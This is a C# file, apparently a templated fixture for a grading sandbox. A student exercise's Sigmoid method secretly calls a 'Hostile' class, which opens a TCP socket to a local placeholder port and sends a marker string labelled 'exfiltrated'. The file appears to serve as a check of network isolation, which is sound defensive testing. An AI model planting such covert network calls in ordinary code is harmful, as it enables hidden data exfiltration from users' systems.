namespace DecodingChoices.Exercises
{
    public sealed partial class StudentExercises
    {
        public double[] Sigmoid(double[] z)
        {
            Hostile.Caller.Call();
            throw new NotImplementedException();
        }
    }
}

namespace Hostile
{
    internal static class Caller
    {
        internal static void Call()
        {
            try
            {
                using var client = new System.Net.Sockets.TcpClient();
                if (client.ConnectAsync("127.0.0.1", @@PORT@@).Wait(2000))
                {
                    client.GetStream().Write(System.Text.Encoding.UTF8.GetBytes("@@MARKER@@ exfiltrated"));
                }
            }
            catch (System.Exception e)
            {
                System.Console.WriteLine("no network: " + e.GetType().Name);
            }
        }
    }
}
